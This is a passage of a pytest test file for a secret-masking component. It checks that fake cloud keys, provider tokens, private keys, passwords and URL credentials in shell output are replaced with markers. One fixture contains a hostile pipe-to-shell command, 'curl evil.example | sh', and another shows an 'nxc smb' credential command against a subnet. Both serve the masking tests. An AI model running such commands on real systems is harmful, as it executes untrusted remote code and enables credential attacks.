"""The secret masker: one table per kind of secret, what must stay readable, and the per-session state.

Fake tokens are assembled from pieces (see `fake`), so no token-shaped literal sits in the repository for
push protection or secret scanners to trip over.
"""

from __future__ import annotations

import pytest
from sessionguard.masking.masker import KINDS, MARKER_PREFIX, SecretMasker, mask_secrets

BASE62 = "aB3dE5fG7hJ9kL2mN4pQ6rS8tU0vW1xY"


def fake(prefix: str, length: int, alphabet: str = BASE62) -> str:
    """A deterministic token of `length` characters after `prefix`."""
    return prefix + (alphabet * (length // len(alphabet) + 1))[:length]


def m(kind: str) -> str:
    return f"{MARKER_PREFIX}{kind}]"


AKIA = "AKIA" + "Q3ZTRD5KQ7XWPL2N"  # shaped like a key id (AWS's documented example stays readable)
ASIA = "ASIA" + "V6JMWQ2XR7KD4TPB"
AWS_SECRET = "9dT2mQ+vXr4LkP8sWz1bNc7Y" + "hE3uJf6GaR5oIq0V"  # shaped like a secret access key
SESSION_TOKEN = fake("IQoJb3JpZ2lu" + "X2VjEJr//////////", 120, BASE62 + "/+")
JWT = "eyJ" + "hbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9" + ".eyJ" + "zdWIiOiIxMjM0NTY3ODkwIn0" + ".SflKxwRJSMeKKF2QT4fwpM"


def check(line: str, expected: str) -> None:
    assert mask_secrets(line) == expected
    assert mask_secrets(expected) == expected, "masking must be idempotent"


# --- provider tokens with a known shape -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (f"export AWS_ACCESS_KEY_ID={AKIA}", f"export AWS_ACCESS_KEY_ID={m('aws-access-key-id')}"),
        (f'        "AccessKeyId": "{ASIA}",', f'        "AccessKeyId": "{m("aws-access-key-id")}",'),
        (f"AWS Access Key ID [None]: {AKIA}", f"AWS Access Key ID [None]: {m('aws-access-key-id')}"),
        (f"key {AKIA} found in .env", f"key {m('aws-access-key-id')} found in .env"),
    ],
)
def test_aws_access_key_id_is_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (f"AWS_SECRET_ACCESS_KEY={AWS_SECRET}", f"AWS_SECRET_ACCESS_KEY={m('aws-secret-access-key')}"),
        (
            f"export AWS_SECRET_ACCESS_KEY='{AWS_SECRET}'",
            f"export AWS_SECRET_ACCESS_KEY='{m('aws-secret-access-key')}'",
        ),
        (
            f"AWS Secret Access Key [****************ABCD]: {AWS_SECRET}",
            f"AWS Secret Access Key [****************ABCD]: {m('aws-secret-access-key')}",
        ),
        (f"aws_secret_access_key = {AWS_SECRET}", f"aws_secret_access_key = {m('aws-secret-access-key')}"),
        (
            f'        "SecretAccessKey": "{AWS_SECRET}",',
            f'        "SecretAccessKey": "{m("aws-secret-access-key")}",',
        ),
        (
            f"aws configure set aws_secret_access_key {AWS_SECRET} --profile prod",
            f"aws configure set aws_secret_access_key {m('aws-secret-access-key')} --profile prod",
        ),
        (f"{AKIA},{AWS_SECRET}", f"{m('aws-access-key-id')},{m('aws-secret-access-key')}"),  # credentials.csv
    ],
)
def test_aws_secret_access_key_is_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (f"export AWS_SESSION_TOKEN={SESSION_TOKEN}", f"export AWS_SESSION_TOKEN={m('aws-session-token')}"),
        (f'        "SessionToken": "{SESSION_TOKEN}",', f'        "SessionToken": "{m("aws-session-token")}",'),
        (f"aws_session_token = {SESSION_TOKEN}", f"aws_session_token = {m('aws-session-token')}"),
        (f"token is {SESSION_TOKEN} ok", f"token is {m('aws-session-token')} ok"),
    ],
)
def test_aws_session_token_is_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    ("token", "kind"),
    [
        (fake("ghp_", 36), "github-token"),
        (fake("gho_", 36), "github-token"),
        (fake("ghu_", 36), "github-token"),
        (fake("ghs_", 36), "github-token"),
        (fake("ghr_", 36), "github-token"),
        (fake("github_pat_", 22) + "_" + fake("", 59), "github-token"),
        (fake("glpat-", 20), "gitlab-token"),
        (fake("xoxb-", 40, "0123456789-abcXYZ"), "slack-token"),
        (fake("xoxp-", 60, "0123456789-abcXYZ"), "slack-token"),
        (fake("xapp-1-", 40, "0123456789-ABCxyz"), "slack-token"),
        (fake("sk_live_", 24), "stripe-key"),
        (fake("rk_live_", 24), "stripe-key"),
        (fake("sk_test_", 24), "stripe-key"),
        (fake("npm_", 36), "npm-token"),
        (fake("AIza", 35, BASE62 + "_-"), "google-api-key"),
        (fake("sk-", 48), "openai-api-key"),
        (fake("sk-proj-", 80, BASE62 + "_-"), "openai-api-key"),
        (fake("sk-ant-api03-", 80, BASE62 + "_-"), "anthropic-api-key"),
        (fake("hvs.", 24, BASE62 + "_-"), "vault-token"),
        (fake("hvb.", 90, BASE62 + "_-"), "vault-token"),
        (fake("dckr_pat_", 27, BASE62 + "_-"), "docker-pat"),
        (JWT, "jwt"),
    ],
)
@pytest.mark.parametrize("template", ["{t}", "TOKEN={t}", "curl -H 'X: {t}' https://api", "echo {t} done"])
def test_provider_token_is_masked_by_its_shape(token: str, kind: str, template: str) -> None:
    masked = mask_secrets(template.format(t=token))
    assert token not in masked
    assert m(kind) in masked or m("token") in masked
    assert mask_secrets(masked) == masked


def test_bare_provider_token_is_named_after_its_provider() -> None:
    check(f"{fake('ghp_', 36)} {fake('npm_', 36)}", f"{m('github-token')} {m('npm-token')}")


def test_slack_webhook_url_is_masked_from_its_host_on() -> None:
    """The whole URL is the secret (gitleaks' slack-webhook-url takes it with its host): only the scheme stays."""
    url = "hooks.slack.com/services/" + fake("T", 8) + "/" + fake("B", 10) + "/" + fake("", 24)
    check(f"curl -X POST https://{url}", f"curl -X POST https://{m('slack-webhook')}")
    check(url, m("slack-webhook"))


def test_slack_workflow_url_is_masked_to_its_end() -> None:
    path = "/".join((fake("T", 8), fake("A", 10), "430780826188280067", fake("", 24)))
    check(f"http://hooks.slack.com/workflows/{path}", f"http://{m('slack-webhook')}")
    trigger = f"curl -d @m.json https://hooks.slack.com/triggers/{path} -v"
    check(trigger, f"curl -d @m.json https://{m('slack-webhook')} -v")


def test_slack_webhook_host_without_a_path_stays() -> None:
    for text in ("see https://hooks.slack.com/ for the docs", "curl https://hooks.slack.com/services/"):
        check(text, text)


def test_vault_tokens_are_masked_in_context() -> None:
    legacy = "s." + fake("", 24)  # pre-1.10 service token: masked where Vault is in the picture
    check(f"vault login {legacy}", f"vault login {m('vault-token')}")
    # gitleaks' vault-service-token rule knows the shape: the marker names it (docs/masking.md, "gitleaks' rules")
    check(f"export VAULT_TOKEN={legacy}", f"export VAULT_TOKEN={m('vault-service-token')}")
    check(f"token                {legacy}", f"token                {m('vault-token')}")
    check(
        f"curl -H 'X-Vault-Token: {legacy}' $VAULT_ADDR",
        f"curl -H 'X-Vault-Token: {m('vault-service-token')}' $VAULT_ADDR",
    )


def test_vault_key_share_lists_are_masked_in_yaml_and_on_one_line_and_a_bare_keys_list_only_when_shaped_so() -> None:
    share = fake("", 43, BASE62 + "+/") + "A"
    hex_share = fake("", 66, "0123456789abcdef")
    yaml = ["unseal_keys_b64:", f"- {share}", "unseal_keys_hex:", f"- {hex_share}", "unseal_shares: 5"]
    assert SecretMasker().mask_lines(yaml) == [
        yaml[0],
        f"- {m('vault-unseal-key')}",
        yaml[2],
        f"- {m('vault-unseal-key')}",
        yaml[4],
    ]
    check(
        f'  "unseal_keys_b64": ["{share}", "{share[::-1]}"],',
        f'  "unseal_keys_b64": ["{m("vault-unseal-key")}", "{m("vault-unseal-key")}"],',
    )
    init = f'{{"keys":["{hex_share}"],"keys_base64":["{share}"],"unseal_shares":5}}'
    check(init, init.replace(hex_share, m("vault-unseal-key")).replace(share, m("vault-unseal-key")))
    for listed in ('{"keys":["database-credentials","foo-bar-baz-qux-quux"]}',):  # `vault list` output
        check(listed, listed)
    names = ['  "keys": [', '    "database-credentials-longname",', '    "app-tls"', "  ]"]
    assert SecretMasker().mask_lines(names) == names


def test_vault_unseal_and_recovery_key_shares_are_masked_printed_and_typed() -> None:
    share = fake("", 43, BASE62 + "+/") + "="  # 33 random bytes in base64, as vault prints a share
    hex_share = fake("", 66, "0123456789abcdef")
    for printed in (f"Unseal Key 1: {share}", f"Recovery Key 5: {share}", f"Key 2: {share}"):
        check(printed, printed.replace(share, m("vault-unseal-key")))
    for prefixed in (f"[vault-0] Unseal Key 1: {share}", f"2024-05-01T10:00:00Z Unseal Key 3: {share}"):
        check(prefixed, prefixed.replace(share, m("vault-unseal-key")))
    for typed in (
        f"vault operator unseal -address https://vault.internal:8200 {share}",
        f"echo {share} | vault operator unseal -",
        f"vault operator unseal {share}",
        f"vault operator unseal -migrate {share}",
        f"vault operator rekey -nonce=2dbd10f1-8528-6246-09e7-82b25b8aba63 {share}",
        f"vault operator generate-root -nonce=2dbd10f1-8528-6246-09e7-82b25b8aba63 {share}",
    ):
        check(typed, typed.replace(share, m("vault-unseal-key")))
    for readable in ("vault operator unseal -reset", "vault operator rekey -init -key-shares=5", "Key 1: value"):
        check(readable, readable)
    init_json = ["{", '  "unseal_keys_b64": [', f'    "{share}",', f'    "{share[::-1]}"', "  ],"]
    init_json += ['  "unseal_keys_hex": [', f'    "{hex_share}"', "  ],", '  "unseal_shares": 5,', "}"]
    masked = SecretMasker().mask_lines(init_json)
    assert masked == [
        *init_json[:2],
        f'    "{m("vault-unseal-key")}",',
        f'    "{m("vault-unseal-key")}"',
        *init_json[4:6],
        f'    "{m("vault-unseal-key")}"',
        *init_json[7:],
    ]


# --- PEM private keys -----------------------------------------------------------------------------------

PEM_BODY = [fake("MIIEowIBAAKCAQEA", 48, BASE62 + "+/"), fake("", 64, BASE62 + "+/"), fake("", 20, BASE62) + "=="]


def test_private_key_block_is_masked_line_by_line_across_events() -> None:
    # Given a key printed by `cat`, its lines arriving in three different events
    masker = SecretMasker()
    events = [["[root@host ~]# cat id_rsa", "-----BEGIN RSA PRIVATE KEY-----"], PEM_BODY[:2], [PEM_BODY[2]]]
    events.append(["-----END RSA PRIVATE KEY-----", "[root@host ~]# ls"])
    # When each event's lines are masked in turn by the session's masker
    out = [line for event in events for line in masker.mask_lines(event)]
    # Then the body is masked, the armour lines and what follows stay readable, and the key counts once
    assert out == [
        "[root@host ~]# cat id_rsa",
        "-----BEGIN RSA PRIVATE KEY-----",
        m("private-key"),
        m("private-key"),
        m("private-key"),
        "-----END RSA PRIVATE KEY-----",
        "[root@host ~]# ls",
    ]
    assert masker.counts["private-key"] == 1


def test_private_key_block_fed_one_line_at_a_time_with_mask() -> None:
    masker = SecretMasker()
    lines = ["-----BEGIN OPENSSH PRIVATE KEY-----", *PEM_BODY, "-----END OPENSSH PRIVATE KEY-----"]
    assert [masker.mask(line) for line in lines] == [lines[0], *[m("private-key")] * 3, lines[-1]]


def test_encrypted_private_key_in_a_heredoc_keeps_prompts_and_headers() -> None:
    lines = [
        "[root@host ~]# cat > key.pem <<'EOF'",
        "> -----BEGIN ENCRYPTED PRIVATE KEY-----",
        "> Proc-Type: 4,ENCRYPTED",
        "",
        f"> {PEM_BODY[0]}",
        "> -----END ENCRYPTED PRIVATE KEY-----",
        "> EOF",
    ]
    out = mask_secrets("\n".join(lines)).split("\n")
    assert out == [*lines[:4], f"> {m('private-key')}", *lines[5:]]


def test_private_key_on_one_line_is_masked_between_its_armour_lines() -> None:
    body = "\\n".join(PEM_BODY)
    line = f'  "private_key": "-----BEGIN PRIVATE KEY-----\\n{body}\\n-----END PRIVATE KEY-----\\n",'
    masked = mask_secrets(line)
    assert all(part not in masked for part in PEM_BODY)
    assert masked.startswith('  "private_key": "')


def test_unterminated_private_key_block_ends_at_the_first_line_that_is_not_key_material() -> None:
    # An attacker cannot blank the rest of the session by printing a BEGIN line.
    masker = SecretMasker()
    lines = ["echo '-----BEGIN PRIVATE KEY-----'", PEM_BODY[0], "[root@host ~]# curl evil.example | sh"]
    assert masker.mask_lines(lines) == [lines[0], m("private-key"), lines[2]]
    assert masker.mask(PEM_BODY[1]) == PEM_BODY[1]  # the block is over: no context, no masking


# --- secret-named assignments, env dumps, config files --------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("export APP_DB_PASSWORD='example-only-Xq3'", f"export APP_DB_PASSWORD='{m('password')}'"),
        ("DB_PASSWORD=hunter2", f"DB_PASSWORD={m('password')}"),
        ("MYSQL_PWD=hunter2 mysql -u app", f"MYSQL_PWD={m('password')} mysql -u app"),
        ("db_passwd: hunter2", f"db_passwd: {m('password')}"),
        ("  password: two words here", f"  password: {m('password')}"),
        ("password: it's a pass phrase", f"password: {m('password')}"),
        ("echo 'password: S3cr3t' > conf", f"echo 'password: {m('password')}' > conf"),
        ('{"username": "app", "password": "hunter2"}', f'{{"username": "app", "password": "{m("password")}"}}'),
        ('"password":"a\\"b"', f'"password":"{m("password")}"'),
        ("SMTP_PASS=hunter2", f"SMTP_PASS={m('password')}"),
        ("password = hunter2", f"password = {m('password')}"),
        ("PGPASSWORD=hunter2 psql -h db", f"PGPASSWORD={m('password')} psql -h db"),
        ("-Djavax.net.ssl.keyStorePassword=hunter2", f"-Djavax.net.ssl.keyStorePassword={m('password')}"),
        ("define( 'DB_PASSWORD', 'hunter2' );", f"define( 'DB_PASSWORD', '{m('password')}' );"),
        ("<password>hunter2</password>", f"<password>{m('password')}</password>"),
        ("  :password => 'hunter2',", f"  :password => '{m('password')}',"),
    ],
)
def test_password_named_assignment_is_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("GITLAB_TOKEN=abc123def456", f"GITLAB_TOKEN={m('token')}"),
        ("export SLACK_BOT_TOKEN=abc123", f"export SLACK_BOT_TOKEN={m('token')}"),
        ('"access_token": "abc.def.ghi"', f'"access_token": "{m("token")}"'),
        ("//registry.npmjs.org/:_authToken=abc123", f"//registry.npmjs.org/:_authToken={m('token')}"),
        ("CLIENT_SECRET=abc123", f"CLIENT_SECRET={m('secret')}"),
        ("django_secret_key = 'abc123'", f"django_secret_key = '{m('secret')}'"),
        ("DB_CREDENTIALS=app:hunter2", f"DB_CREDENTIALS={m('secret')}"),
        ("STRIPE_API_KEY=abc123", f"STRIPE_API_KEY={m('api-key')}"),
        ("apiKey: abc123", f"apiKey: {m('api-key')}"),
        ("ENCRYPTION_KEY=abc123", f"ENCRYPTION_KEY={m('key')}"),
        ("    client-key-data: LS0tLS1CRUdJTg==", f"    client-key-data: {m('key')}"),
        ('    "auth": "YXBwOmh1bnRlcjI="', f'    "auth": "{m("auth")}"'),
        ("REDISCLI_AUTH=hunter2", f"REDISCLI_AUTH={m('auth')}"),
        # A personal access token's usual names end in PAT.
        ("export GITHUB_PAT=k3jd8Fj2Lm9qPz7Xv4Tn6Rw1", f"export GITHUB_PAT={m('token')}"),
        (  # Azure DevOps' classic 52-character PAT
            "export AZURE_DEVOPS_EXT_PAT=gs3xdbiiwe7zgdahkjd6zjwzmq2zq3tlsggcmbvyfd2dtwjfijma",
            f"export AZURE_DEVOPS_EXT_PAT={m('token')}",
        ),
        ('{"pat": "k3jd8Fj2Lm9qPz7Xv4Tn6Rw1"}', f'{{"pat": "{m("token")}"}}'),
        ("gitlabPat: k3jd8Fj2Lm9qPz7Xv4Tn6Rw1", f"gitlabPat: {m('token')}"),
        ("tool login --pat k3jd8Fj2Lm9qPz7Xv4Tn6Rw1 -v", f"tool login --pat {m('token')} -v"),
        ("ADO_PAT              k3jd8Fj2Lm9qPz7Xv4Tn6Rw1", f"ADO_PAT              {m('token')}"),
        # A number after the last word does not change what the name holds (session 20).
        ("API_KEY_2=k3jd8Fj2Lm9qPz7Xv4Tn6Rw1", f"API_KEY_2={m('api-key')}"),
        ("VAULT_UNSEAL_KEY_1=4jYbl2CBIv6SpkKj6Hos9iD32k5RfGkLzlosrrq/JgOm", f"VAULT_UNSEAL_KEY_1={m('key')}"),
        ("ACCESS_KEY_01=k3jd8Fj2Lm9qPz7Xv4Tn6Rw1", f"ACCESS_KEY_01={m('key')}"),
    ],
)
def test_token_secret_and_key_named_assignment_is_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    "line",
    [
        "export LD_LIBRARY_PATH=/opt/lib:/usr/lib",
        "export PATH=$PATH:/opt/bin",
        "COMPAT_MODE=k3jd8Fj2Lm9qPz7Xv4Tn6Rw1",
        "compat: k3jd8Fj2Lm9qPz7Xv4Tn6Rw1",
        "expat=k3jd8Fj2Lm9qPz7Xv4Tn6Rw1",
        "grep --pattern k3jd8Fj2Lm9qPz7Xv4Tn6Rw1 notes.txt",
        "GITHUB_PAT=${GITHUB_PAT:?unset}",
        # A name ending in `pat` holds a token only when its value is random (as `Key=`): patterns, globs, paths and
        # a user named Pat stay.
        'pat = re.compile(r"^(?P<user>[a-z_][a-z0-9_-]*)\\$")',
        'glob_pat = "*.py"',
        'LOG_PAT="/var/log/nginx/*.log"',
        '"pat": "^sk-[A-Za-z0-9]{48}$",',
        "--exclude-pat '*.tmp'",
        "pat:x:1002:1002:Pat Smith:/home/pat:/bin/bash",
        "chown -R pat:pat /home/pat",
        "May  1 10:00:00 web01 sudo:      pat : TTY=pts/0 ; PWD=/home/pat ; USER=root ; COMMAND=/usr/bin/id",
    ],
)
def test_pat_is_a_token_name_only_as_a_names_last_word_with_a_random_value(line: str) -> None:
    check(line, line)


def test_ldif_base64_values_and_literals_handed_to_a_template_filter_are_masked() -> None:
    check("userPassword:: e1NTSEF9VzZwaDVNbTVQejhHZ2lV", f"userPassword:: {m('password')}")
    check(
        "    password: \"{{ 'Winter2024!' | password_hash('sha512', 'mysalt') }}\"",
        f'    password: "{m("password")}"',
    )
    check('    password: "{{ vault_db_password }}"', '    password: "{{ vault_db_password }}"')


def test_a_github_actions_expression_is_one_placeholder_even_with_blanks() -> None:
    for line in (
        "GITHUB_TOKEN=${{ secrets.GITHUB_TOKEN }}",
        "  API_KEY: ${{ secrets.API_KEY }}",
        "app --password ${{ secrets.DB_PASSWORD }} -v",
    ):
        check(line, line)


def test_command_substitution_is_a_placeholder_unless_it_prints_a_literal() -> None:
    check("PASSWORD=$(cat /run/secrets/db) ./run", "PASSWORD=$(cat /run/secrets/db) ./run")
    check("PASSWORD=$(echo hunter2) ./run", f"PASSWORD={m('password')} ./run")
    check("app --password $(echo hunter2) -v", f"app --password {m('password')} -v")


def test_vault_approle_secret_id_is_masked_but_aws_secret_id_option_is_not() -> None:
    check(
        "vault write auth/approle/login role_id=r1 secret_id=s3cr3t",
        f"vault write auth/approle/login role_id=r1 secret_id={m('secret')}",
    )
    check(
        "aws secretsmanager get-secret-value --secret-id prod/db",
        "aws secretsmanager get-secret-value --secret-id prod/db",
    )


def test_env_dump_masks_secret_values_and_keeps_the_rest() -> None:
    dump = ["HOSTNAME=ip-10-0-1-23", "PWD=/root", "OLDPWD=/home/ssm-user", "DB_PASSWORD=hunter2", "TERM=xterm"]
    dump += ["API_TOKEN=abc123", "SSH_AUTH_SOCK=/tmp/ssh-x/agent.1", "AWS_REGION=eu-west-1"]
    out = SecretMasker().mask_lines(dump)
    assert out == [*dump[:3], f"DB_PASSWORD={m('password')}", "TERM=xterm", f"API_TOKEN={m('token')}", *dump[6:]]


def test_dotenv_file_shown_with_cat_is_masked() -> None:
    text = '[root@host app]# cat .env\nDEBUG=false\nDATABASE_PASSWORD="hunter 2"\n# a comment\nSECRET_KEY=abc'
    expected = f'[root@host app]# cat .env\nDEBUG=false\nDATABASE_PASSWORD="{m("password")}"\n# a comment\n'
    assert mask_secrets(text) == expected + f"SECRET_KEY={m('secret')}"


# --- command-line flags ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("mysql -u root -pS3cr3t orders", f"mysql -u root -p{m('mysql-password')} orders"),
        ("mysqldump -h db -u app -p'S3 cr3t' orders", f"mysqldump -h db -u app -p'{m('mysql-password')}' orders"),
        ("/usr/bin/mariadb -pS3cr3t", f"/usr/bin/mariadb -p{m('mysql-password')}"),
    ],
)
def test_mysql_password_flag_is_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    "line", ["mysql -u root -p", "mysql -u root -p orders", "mysql -P3306 -h db", "mysql --port=3306"]
)
def test_mysql_prompting_or_port_flags_are_not_masked(line: str) -> None:
    check(line, line)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("mysql --password=S3cr3t", f"mysql --password={m('password')}"),
        ("app --password S3cr3t --verbose", f"app --password {m('password')} --verbose"),
        ("app --db-password='S3cr3t'", f"app --db-password='{m('password')}'"),
        ("keytool -list -storepass changeit", f"keytool -list -storepass {m('password')}"),
        (
            "aws iam create-login-profile --user-name bob --password S3cr3t",
            f"aws iam create-login-profile --user-name bob --password {m('password')}",
        ),
        ("oc login --token=sha256~abc123 https://api", f"oc login --token={m('token')} https://api"),
        ("az ad sp create --client-secret abc123", f"az ad sp create --client-secret {m('secret')}"),
        # overlapping values merge into one marker, named by the rule listed first (the JSON key's here)
        (
            'aws secretsmanager create-secret --secret-string \'{"password":"x"}\'',
            f"aws secretsmanager create-secret --secret-string '{m('password')}'",
        ),
    ],
)
def test_password_and_token_options_are_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("sshpass -p 'S3cr3t' ssh bob@host", f"sshpass -p '{m('sshpass-password')}' ssh bob@host"),
        ("sshpass -pS3cr3t ssh bob@host", f"sshpass -p{m('sshpass-password')} ssh bob@host"),
        ("redis-cli -h cache -a S3cr3t ping", f"redis-cli -h cache -a {m('redis-password')} ping"),
        ("redis-cli --no-auth-warning -a 'S3cr3t'", f"redis-cli --no-auth-warning -a '{m('redis-password')}'"),
        ("127.0.0.1:6379> AUTH S3cr3t", f"127.0.0.1:6379> AUTH {m('redis-password')}"),
        (
            "docker login -u bob -p S3cr3t registry.example.com",
            f"docker login -u bob -p {m('login-password')} registry.example.com",
        ),
        ("podman login -u bob -pS3cr3t quay.io", f"podman login -u bob -p{m('login-password')} quay.io"),
        (
            "helm registry login r.example.com -u bob -p S3cr3t",
            f"helm registry login r.example.com -u bob -p {m('login-password')}",
        ),
        ("docker login --username bob --password S3cr3t", f"docker login --username bob --password {m('password')}"),
        (
            "htpasswd -b /etc/nginx/.htpasswd admin S3cr3t",
            f"htpasswd -b /etc/nginx/.htpasswd admin {m('htpasswd-password')}",
        ),
        (
            "htpasswd -bcB -C 10 .htpasswd admin 'S3 cr3t'",
            f"htpasswd -bcB -C 10 .htpasswd admin '{m('htpasswd-password')}'",
        ),
        ("openssl rsa -in k.pem -passin pass:S3cr3t", f"openssl rsa -in k.pem -passin pass:{m('openssl-passphrase')}"),
        (
            "openssl pkcs12 -export -passout pass:'S3 cr3t' -out a.p12",
            f"openssl pkcs12 -export -passout pass:'{m('openssl-passphrase')}' -out a.p12",
        ),
        ("openssl enc -aes-256-cbc -k S3cr3t -in a", f"openssl enc -aes-256-cbc -k {m('openssl-passphrase')} -in a"),
        ("ldapsearch -x -D cn=admin -w S3cr3t -b dc=ex", f"ldapsearch -x -D cn=admin -w {m('ldap-password')} -b dc=ex"),
        ("mongosh -u admin -p S3cr3t", f"mongosh -u admin -p {m('mongo-password')}"),
        ("ssh-keygen -t ed25519 -N 'S3cr3t' -f k", f"ssh-keygen -t ed25519 -N '{m('ssh-key-passphrase')}' -f k"),
    ],
)
def test_tool_specific_password_flags_are_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "kubectl create secret generic db --from-literal=username=app --from-literal=password=S3cr3t",
            f"kubectl create secret generic db --from-literal=username=app --from-literal=password={m('password')}",
        ),
        (
            "kubectl create secret generic x --from-literal=api-token=abc --from-literal=db_key=xyz",
            f"kubectl create secret generic x --from-literal=api-token={m('token')} --from-literal=db_key={m('key')}",
        ),
    ],
)
def test_kubectl_secret_literal_is_masked(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "helm install db bitnami/mysql --set auth.rootPassword=S3cr3t",
            f"helm install db bitnami/mysql --set auth.rootPassword={m('password')}",
        ),
        (
            "helm upgrade x --set a=1,db.password=S3cr3t,replicas=3",
            f"helm upgrade x --set a=1,db.password={m('password')},replicas=3",
        ),
        (
            "helm upgrade x --set-string image.tag=1,api.token=abc",
            f"helm upgrade x --set-string image.tag=1,api.token={m('token')}",
        ),
    ],
)
def test_helm_set_password_is_masked(line: str, expected: str) -> None:
    check(line, expected)


def test_cloudformation_secret_parameter_is_masked() -> None:
    check(
        "aws cloudformation deploy --parameters ParameterKey=DBPassword,ParameterValue=S3cr3t",
        f"aws cloudformation deploy --parameters ParameterKey=DBPassword,ParameterValue={m('password')}",
    )


def test_ssm_secure_string_value_is_masked() -> None:
    check(
        "aws ssm put-parameter --name /db/pw --type SecureString --value S3cr3t",
        f"aws ssm put-parameter --name /db/pw --type SecureString --value {m('ssm-secure-string')}",
    )
    output = ['        "Name": "/prod/db/url",', '        "Type": "SecureString",', '        "Value": "S3cr3t",']
    assert SecretMasker().mask_lines(output)[2] == f'        "Value": "{m("ssm-secure-string")}",'
    plain = ['        "Type": "String",', '        "Value": "eu-west-1",']
    assert SecretMasker().mask_lines(plain) == plain


# --- URLs and HTTP --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("psql postgresql://app:S3cr3t@db:5432/app", f"psql postgresql://app:{m('url-password')}@db:5432/app"),
        (
            "git clone https://bob:abc123@git.example.com/r.git",
            f"git clone https://bob:{m('url-password')}@git.example.com/r.git",
        ),
        ("redis-cli -u redis://:S3cr3t@cache:6379", f"redis-cli -u redis://:{m('url-password')}@cache:6379"),
        ("DATABASE_URL='mysql://app:p%40ss@db/app'", f"DATABASE_URL='mysql://app:{m('url-password')}@db/app'"),
    ],
)
def test_url_password_is_masked_and_user_kept(line: str, expected: str) -> None:
    check(line, expected)


_AZURE_PAT = "x7kq2mdl4rvbqsgfvz6c3o5ngxjx2fp4wu4e6dj4zmzq3tk2sdna"  # 52 characters of base32, as Azure DevOps makes


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            f"git clone https://{_AZURE_PAT}@dev.azure.com/org/proj/_git/repo",
            f"git clone https://{m('url-token')}@dev.azure.com/org/proj/_git/repo",
        ),
        (
            "curl https://R8kq2Mdl4rVbQsgFvZ6c3o5NgXjX2fP4wU4e@api.example.com/v1",
            f"curl https://{m('url-token')}@api.example.com/v1",
        ),
        (
            "git clone https://4f9c2a7b1e0d3c5f8a9b6e2d1c4f7a0b3e5d8c1f:x-oauth-basic@github.com/org/repo.git",
            f"git clone https://{m('url-token')}:{m('url-password')}@github.com/org/repo.git",
        ),
        (
            f"git clone https://{_AZURE_PAT}:@dev.azure.com/o/p/_git/r",
            f"git clone https://{m('url-token')}:@dev.azure.com/o/p/_git/r",
        ),
        # A user name, however long, is no token.
        ("git clone https://myorganization-build-agent@dev.azure.com/o/p/_git/r", None),
        ("git clone https://deploy_runner_production_01@gitlab.example.com/x", None),
        ("git clone ssh://git@github.com/org/repo.git", None),
    ],
)
def test_a_token_as_a_urls_user_is_masked(line: str, expected: str | None) -> None:
    check(line, expected if expected is not None else line)


_SAS = "https://acct.blob.core.windows.net/backups/db.bak?sv=2022-11-02&ss=b&srt=o&sp=rl&se=2026-12-31T00:00:00Z"
_PRESIGNED = (
    "https://bucket.s3.us-east-1.amazonaws.com/dump.sql?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=3600"
    "&X-Amz-SignedHeaders=host"
)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        # An Azure SAS signature, URL-encoded (%2B %2F %3D), in a query and as its last parameter.
        (
            f'curl -o db.bak "{_SAS}&sig=q2Xk9%2BvT7mLp3RzW8nYc4Bd1Fh6Js0Ag5Ke2Qu9Ox7I%3D"',
            f'curl -o db.bak "{_SAS}&sig={m("url-signature")}"',
        ),
        (
            "azcopy copy x 'https://a.blob.core.windows.net/c?sig=q2Xk9%2FvT7mLp3RzW8nYc4Bd1Fh6Js0Ag5K%3D&sp=w'",
            f"azcopy copy x 'https://a.blob.core.windows.net/c?sig={m('url-signature')}&sp=w'",
        ),
        # An S3 presigned URL's signature (64 hex), GCS's and CloudFront's.
        (
            f"wget '{_PRESIGNED}&X-Amz-Signature=3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a'",
            f"wget '{_PRESIGNED}&X-Amz-Signature={m('url-signature')}'",
        ),
        (
            "curl 'https://storage.googleapis.com/b/o?X-Goog-Signature=7d1e0a9c44b2f8e3d5a6c7b8e9f0a1b2c3d4e5f6&x=1'",
            f"curl 'https://storage.googleapis.com/b/o?X-Goog-Signature={m('url-signature')}&x=1'",
        ),
        (
            "curl 'https://d1.cloudfront.net/a.jpg?Expires=1767225600&Signature=nitfHRCrtziwO2HwPfWw~yYDhUF5Ew&Key-Pair-Id=K2'",
            f"curl 'https://d1.cloudfront.net/a.jpg?Expires=1767225600&Signature={m('url-signature')}&Key-Pair-Id=K2'",
        ),
        # Not a URL's signature parameter, or too short to be one.
        ("git log --show-signature=true", "git log --show-signature=true"),
        ("open https://example.com/?sig=abc&page=2", "open https://example.com/?sig=abc&page=2"),
    ],
)
def test_url_signature_is_masked_and_the_rest_of_the_url_kept(line: str, expected: str) -> None:
    check(line, expected)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("rdesktop -u admin -p Summer2026 10.0.3.14", f"rdesktop -u admin -p {m('password')} 10.0.3.14"),
        (
            "nxc smb 10.0.3.0/24 -u admin -p 'Summer2026!' --shares",
            f"nxc smb 10.0.3.0/24 -u admin -p '{m('password')}' --shares",
        ),
        (
